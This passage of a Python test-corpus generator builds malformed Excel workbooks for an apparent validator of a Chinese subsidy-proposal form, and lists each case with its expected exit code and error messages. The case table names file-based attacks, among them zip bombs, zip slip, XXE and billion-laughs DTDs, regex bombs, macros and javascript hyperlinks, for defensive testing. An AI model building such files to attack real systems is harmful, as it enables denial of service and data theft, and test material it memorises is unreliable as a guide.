        "members.county": 3.5,
        "members.township": 42,
        "members.employees": "十幾個",
        "members.revenue": "很多",
        "members.capital": "一百萬左右",
        "members.industry": 0,
        "members.owner_gender": 2,
        "members.owner_email": 7,
        "members.revenue_physical": "一半",
        "members.coached_last_year": 5,
    }

    def change(data: FormData) -> None:
        data.tables["members"][0].update(wrong)
        data.fields["unit.employees"] = "二十"
        data.fields["proposal.date"] = 3.14
        data.fields["unit.website"] = 12

    return from_data(tag, change)


def extreme_numbers(tag: str) -> bytes:
    cells = [
        num(field_cell("members.employees", 0), "-5"),
        num(field_cell("members.capital", 0), "1e308"),
        num(field_cell("members.revenue", 0), "NaN"),
        num(field_cell("members.employees", 1), "INF"),
        num(field_cell("members.capital", 1), "-1e308"),
        num(field_cell("members.revenue", 1), "1e309"),
        num(field_cell("members.revenue_physical", 0), "nan"),
        num(field_cell("members.orders_online", 0), "-inf"),
        num(field_cell("members.founded_year", 0), "1e308"),
        num(field_cell("members.approved_on", 0), "1e308"),
        num(field_cell("members.approved_on", 1), "-1"),
        num(field_cell("members.approved_on", 2), "NaN"),
    ]
    budget = [
        num(field_cell("budget.unit_price", 0), "-1000"),
        num(field_cell("budget.quantity", 0), "1e308"),
        num(field_cell("budget.unit_price", 1), "NaN"),
    ]
    data = edit_sheets(base(tag), {"群聚成員": dict(cells)})
    return edit_sheets(data, {"經費需求": dict(budget)})


def future_dates(tag: str) -> bytes:
    import datetime as dt

    def change(data: FormData) -> None:
        data.fields["proposal.date"] = dt.date(2099, 12, 31)
        data.tables["members"][0]["members.approved_on"] = "200/01/01"
        data.tables["members"][1]["members.approved_on"] = dt.datetime(9999, 12, 31, 23, 59)
        data.tables["members"][2]["members.founded_year"] = 150

    return from_data(tag, change)


def duplicate_members(tag: str) -> bytes:
    def change(data: FormData) -> None:
        members = data.tables["members"]
        members[2]["members.ubn"] = members[1]["members.ubn"]

    return from_data(tag, change)


def members_200(tag: str) -> bytes:
    """200 member rows: the 50-row table is full and 150 more rows follow it."""
    data = tagged(random_proposal(7, members=200), tag)
    members = data.tables["members"]
    extra = []
    for i, m in enumerate(members[50:], start=50):
        for fid in ("members.name", "members.ubn", "members.county"):
            extra.append(istr(field_cell(fid, i), str(m[fid])))
    return edit_sheets(filled_bytes(data), {"群聚成員": dict(extra)})


def table_over_capacity(tag: str) -> bytes:
    """Twenty digital tools in a twelve-row table."""
    rows = []
    for i in range(20):
        rows.append(istr(field_cell("tools.category", i), "數位工具"))
        rows.append(istr(field_cell("tools.name", i), f"工具{i + 1}"))
    return edit_sheets(base(tag), {"數位工具導入": dict(rows)})


def clean_workbook(tag: str) -> bytes:
    return base(tag)


# ---------------------------------------------------------------------------------------------
# the table

U = "FILE-UNREADABLE"
T = "TEMPLATE-UNKNOWN"
V = "TEMPLATE-VERSION"
A = "FILE-ACTIVE-CONTENT"

CASES: tuple[Case, ...] = (
    # not workbooks
    Case("missing_file", empty, 2, (U,), ("找不到檔案",), kind="missing"),
    Case("a_directory", empty, 2, (U,), ("資料夾",), kind="directory"),
    Case("empty", empty, 2, (U,), ("空",)),
    Case("not_a_zip", not_a_zip, 2, (U,), ("無法辨識",)),
    Case("truncated_zip", truncated_zip, 2, (U,), ("損毀",)),
    Case("xls_biff", xls_biff, 2, (U,), (".xls", "另存")),
    Case("encrypted_ole", encrypted_ole, 2, (U,), ("密碼",)),
    Case("csv_renamed", csv_renamed, 2, (U,), ("CSV",)),
    Case("html_renamed", html_renamed, 2, (U,), ("網頁",)),
    Case("too_large_file", too_large_file, 2, (U,), ("25 MB",)),
    Case("zip_without_workbook", zip_without_workbook, 2, (U,), ("沒有活頁簿",)),
    Case("plain_openpyxl", plain_openpyxl, 2, (T,), ("_meta",)),
    # the package
    Case("zip_bomb_declared", zip_bomb_declared, 2, (U,), ("40 MB",)),
    Case("zip_bomb_declared_gigabytes", zip_bomb_declared_gigabytes, 2, (U,), ("40 MB",)),
    Case("zip_bomb_ratio", zip_bomb_ratio, 2, (U,), ("壓縮炸彈",)),
    Case("zip_bomb_lying_header", zip_bomb_lying_header, 2, (U,), ("損毀", "sheet4.xml")),
    Case("zip_entry_encrypted", zip_entry_encrypted, 2, (U,), ("加密",)),
    Case("zip_unknown_compression", zip_unknown_compression, 2, (U,), ("損毀",)),
    Case("zip_duplicate_entries", zip_duplicate_entries, 2, (U,), ("重複",)),
    Case("zip_slip_names", zip_slip_names, 0),
    Case("part_names_in_other_case", part_names_in_other_case, 0),
    # XML
    Case("billion_laughs_sheet", billion_laughs_sheet, 2, (U,), ("DTD",)),
    Case("xxe_shared_strings", xxe_shared_strings, 2, (U,), ("DTD", "sharedStrings")),
    Case("xxe_workbook", xxe_workbook, 2, (U,), ("DTD", "workbook.xml")),
    Case("dtd_after_long_prolog", dtd_after_long_prolog, 2, (U,), ("DTD",)),
    Case("dtd_in_utf16", dtd_in_utf16, 2, (U,), ("DTD",)),
    Case("dtd_in_content_types", dtd_in_content_types, 2, (U,), ("DTD", "Content_Types")),
    Case("regex_bomb_unclosed_tags", regex_bomb_unclosed_tags, 0),
    Case("regex_bomb_long_attributes", regex_bomb_long_attributes, 0),
    Case("regex_bomb_unclosed_markup", regex_bomb_unclosed_markup, 0),
    Case("utf16_parts", utf16_parts, 0),
    Case("cells_without_r_flood", cells_without_r_flood, 0),
    # active content
    Case("xlsm_macro", xlsm_macro, 0, (A,), ("巨集",), suffix=".xlsm"),
    Case("external_link", external_link, 0, (A,), ("外部連結",)),
    Case("javascript_hyperlink", javascript_hyperlink, 0, (A,), ("javascript",)),
    Case("formula_like_text", formula_like_text, 1, ("FIELD-TYPE", "FIELD-ENUM")),
    Case("formula_in_input_cell", formula_in_input_cell, 0),
    Case("console_markup", console_markup, 1, ("FIELD-ENUM",), ("[/x]",)),
    # the template's structure
    Case("other_spec_version", other_spec_version, 1, (V,), ("2022.9",)),
    Case("stale_field_map", stale_field_map, 1, (V,), ("欄位對照表",)),
    Case("renamed_sheet", renamed_sheet, 2, (T,), ("群聚成員", "更名")),
    Case("deleted_sheet", deleted_sheet, 2, (T,), ("經費需求",)),
    Case("reordered_sheets", reordered_sheets, 0),
    Case("deleted_meta", deleted_meta, 2, (T,), ("_meta",)),
    Case("merged_cells_in_table", merged_cells_in_table, 1, ("TABLE-MERGED",), ("合併",)),
    Case("many_merged_ranges", many_merged_ranges, 2, (U,), ("合併",)),
    # size
    Case("million_rows", million_rows, 2, (U,), ("40 MB",)),
    Case("rows_in_extra_sheet", rows_in_extra_sheet, 2, (U,), ("儲存格",)),
    Case("million_empty_rows", million_empty_rows, 0),
    Case("cell_flood", cell_flood, 2, (U,), ("儲存格",)),
    Case("shared_formula_flood", shared_formula_flood, 0),
    Case("utf16_cell_flood", utf16_cell_flood, 2, (U,), ("儲存格",)),
    Case("cdata_expansion", cdata_expansion, 2, (U,), ("展開", "40 MB")),
    # cell contents
    Case("long_text", long_text, 0, ("TEXT-LENGTH",), ("字",)),
    Case("lone_surrogate_escape", lone_surrogate_escape, 0),
    Case("control_chars_and_emoji", control_chars_and_emoji, 0, ("FIELD-NORMALIZED",)),
    Case("wrong_types", wrong_types, 1, ("FIELD-TYPE", "FIELD-ENUM"), ("填的是",)),
    Case("extreme_numbers", extreme_numbers, 1, ("FIELD-RANGE", "BUDGET-NEGATIVE")),
    Case("future_dates", future_dates, 1, ("FIELD-RANGE",), ("晚於",)),
    Case("duplicate_members", duplicate_members, 1, ("MEMBER-DUPLICATE",), ("重複",)),
    Case("members_200", members_200, 1, ("TABLE-CAPACITY",), ("50",)),
    Case("table_over_capacity", table_over_capacity, 1, ("TABLE-CAPACITY",), ("12",)),
    Case("clean_workbook", clean_workbook, 0),
)


def write_corpus(folder: Path) -> dict[str, Path]:
    """Write every case's file into ``folder``; returns the paths by case name."""
    folder.mkdir(parents=True, exist_ok=True)
    out = {}
    for case in CASES:
        path = folder / case.filename
        if case.kind == "directory":
            path.mkdir()
        elif case.kind == "file":
            path.write_bytes(case.build(case.name))
        out[case.name] = path
    return out
